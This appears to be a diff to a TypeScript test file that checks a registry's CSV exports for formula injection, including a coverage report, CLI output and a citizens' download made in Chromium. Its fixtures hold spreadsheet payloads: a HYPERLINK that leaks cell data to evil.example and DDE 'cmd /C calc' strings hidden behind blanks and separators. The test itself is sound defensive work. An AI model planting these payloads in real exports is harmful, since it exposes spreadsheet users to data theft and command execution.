@@ -1,32 +1,41 @@
 /**
- * Formula injection into the auditor's CSV, against `pnpm start`: the registry's administrator (or
- * anyone who controls a name in the registry) names an organisation and a verwerkingsactiviteit as a
- * spreadsheet formula, through the admin API; the coverage report's CSV, from the auditor's page and
- * from `poortwachter audit coverage --format csv` (the CLI as a child process), carries no live
- * formula: every cell that starts with = + - @ (or a tab or carriage return) is neutralised.
+ * Formula injection into the CSV exports, against `pnpm start`: the registry's administrator (or
+ * anyone who controls a name in the registry) names organisations and a verwerkingsactiviteit as
+ * spreadsheet formulas, through the admin API: bare, behind blanks a spreadsheet trims (a space, a line
+ * feed, U+3000), and behind the other separator (`Gemeente Utrecht,=…` in the citizens' `;` file, `Wmo;=…`
+ * in the auditor's `,` file, which a spreadsheet that guesses the separator splits there). The coverage
+ * report's CSV, from the auditor's page and from `poortwachter audit coverage --format csv` (the CLI as a
+ * child process), and the citizens' overview downloaded in Chromium carry no live formula, read with
+ * either separator: every cell that starts with = + - @ after its blanks is neutralised with `'`.
  */
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { DEMO_OIN, DEMO_PROCESSING_ACTIVITY } from '@poortwachter/seeds';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { launchChromium } from '../portal/browser.ts';
 import { runCli } from '../run-process.ts';
 import { type RunningSystem, startSystem } from '../start-system.ts';
 import { type RawJwk, sendRaw } from './raw-client.ts';
 
 const FORMULAS = {
-  utrecht: '=HYPERLINK("https://evil.example/?leak="&B2,"x")',
-  uwv: "@SUM(1+1)*cmd|' /C calc'!A0",
-  rotterdam: "-2+3+cmd|' /C calc'!A0",
-  wmo: '+HYPERLINK("https://evil.example/?"&C2;"klik")',
+  // Behind a comma: the citizens' (;) overview wrote it bare before, and a comma-splitting spreadsheet ran "=1+…".
+  utrecht: "Gemeente Utrecht,=1+cmd|' /C calc'!A0",
+  // Behind a space: a spreadsheet trims it and runs the rest.
+  uwv: ' =HYPERLINK("https://evil.example/?leak="&B2,"x")',
+  // Behind a line feed, and behind the ideographic space U+3000.
+  rotterdam: "\n@SUM(1+1)*cmd|' /C calc'!A0",
+  haarlem: "\u3000-2+3+cmd|' /C calc'!A0",
+  // Behind a semicolon: the auditor's (,) CSV wrote it bare before.
+  wmo: "Wmo;=1+cmd|' /C calc'!A0",
 };
 
-/** An RFC 4180 reader, apart from the project's writer: the cells as a spreadsheet gets them. */
-function readCsv(text: string): string[][] {
+/** An RFC 4180 reader, apart from the project's writer: the cells as a spreadsheet splitting on `separator` gets them. */
+function readCsv(text: string, separator: string): string[][] {
   const rows: string[][] = [];
   let row: string[] = [];
   let cell = '';
   let quoted = false;
-  for (let i = 0; i < text.length; i++) {
+  for (let i = text.startsWith('\uFEFF') ? 1 : 0; i < text.length; i++) {
     const c = text[i] as string;
     if (quoted) {
       if (c === '"' && text[i + 1] === '"') {
@@ -35,10 +44,11 @@ function readCsv(text: string): string[][] {
       } else if (c === '"') quoted = false;
       else cell += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',') {
+    else if (c === separator) {
       row.push(cell);
       cell = '';
-    } else if (c === '\n') {
+    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
+      if (c === '\r') i++;
       row.push(cell);
       rows.push(row);
       row = [];
@@ -48,11 +58,22 @@ function readCsv(text: string): string[][] {
   return rows;
 }
 
-/** Every cell a spreadsheet would run: starting with = + - @, a tab or a carriage return, and not a number. */
+/**
+ * Every cell a spreadsheet would run, read with `,` and with `;` (and tab): starting with = + - @ (or a
+ * full-width form) once the blanks a spreadsheet trims are skipped, or with a tab or carriage return,
+ * and not a number.
+ */
 const liveFormulas = (csv: string) =>
-  readCsv(csv)
-    .flat()
-    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
+  [',', ';', '\t'].flatMap((separator) =>
+    readCsv(csv, separator)
+      .flat()
+      .filter(
+        (cell) =>
+          (/^[\t\r]/.test(cell) || /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell.replace(/^[\s\u200B\uFEFF]+/u, ''))) &&
+          !/^-?\d+(\.\d+)?$/.test(cell),
+      )
+      .map((cell) => `${JSON.stringify(separator)}: ${JSON.stringify(cell)}`),
+  );
 
 async function cli(args: string[], env: Record<string, string>) {
   const { code, out } = await runCli(args, { env });
@@ -122,6 +143,7 @@ describe("no live formula in the auditor's CSV, whatever the registry's names", 
     await renameOrganisation(DEMO_OIN.utrecht, FORMULAS.utrecht);
     await renameOrganisation(DEMO_OIN.uwv, FORMULAS.uwv);
     await renameOrganisation(DEMO_OIN.rotterdam, FORMULAS.rotterdam);
+    await renameOrganisation(DEMO_OIN.haarlem, FORMULAS.haarlem);
     await renameActivity(DEMO_PROCESSING_ACTIVITY.utrechtWmo, FORMULAS.wmo);
     await gatewayHasNewestDirectory();
     // One access under the renamed names, so that a coverage row carries them.
@@ -148,10 +170,11 @@ describe("no live formula in the auditor's CSV, whatever the registry's names", 
   function expectNeutralised(csv: string) {
     expect(csv.split('\n')[0]).toMatch(/^kind,gateway,afnemer,/);
     expect(liveFormulas(csv)).toEqual([]);
-    const cells = readCsv(csv).flat();
-    // The afnemer of the coverage row, the activity of that row, and the names in the findings.
-    expect(cells).toContain(`'${FORMULAS.utrecht}`);
-    expect(cells).toContain(`'${FORMULAS.wmo}`);
+    const cells = readCsv(csv, ',').flat();
+    // The afnemer of the coverage row, the activity of that row, and the names in the findings: one
+    // cell each (quoted), neutralised where the name itself starts a formula after its blanks.
+    expect(cells).toContain(FORMULAS.utrecht);
+    expect(cells).toContain(FORMULAS.wmo);
     expect(cells).toContain(`'${FORMULAS.uwv}`);
   }
 
@@ -171,4 +194,25 @@ describe("no live formula in the auditor's CSV, whatever the registry's names", 
     expect([0, 1]).toContain(code);
     expectNeutralised(stdout);
   }, 60_000);
+
+  it("the citizens' overview (;), downloaded in Chromium", async () => {
+    const browser = await launchChromium();
+    try {
+      const page = await browser.newPage({ locale: 'nl-NL', timezoneId: 'Europe/Amsterdam' });
+      await page.goto(`http://localhost:${system.ports.portal}/`);
+      await page.locator('#login').click();
+      await page.waitForURL(/\/authorize\?/);
+      await page.locator('button[name="bsn"][value="999993653"]').click();
+      await page.waitForSelector('#download-csv', { timeout: 30_000 });
+      const [download] = await Promise.all([page.waitForEvent('download'), page.locator('#download-csv').click()]);
+      const csv = readFileSync((await download.path()) as string, 'utf8');
+      expect(csv).toContain(';');
+      expect(liveFormulas(csv)).toEqual([]);
+      const cells = readCsv(csv, ';').flat();
+      expect(cells).toContain(FORMULAS.utrecht);
+      expect(cells).toContain(FORMULAS.wmo);
+    } finally {
+      await browser.close();
+    }
+  }, 90_000);
 });
